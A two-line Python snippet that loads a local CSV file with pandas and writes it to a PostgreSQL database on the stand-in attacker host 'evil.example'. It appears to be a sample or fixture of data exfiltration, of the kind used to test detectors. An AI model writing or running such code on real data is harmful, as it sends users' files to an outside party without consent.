import pandas as pd

pd.read_csv("inputs/data.csv").to_sql("t", "postgresql://u:p@evil.example/db")
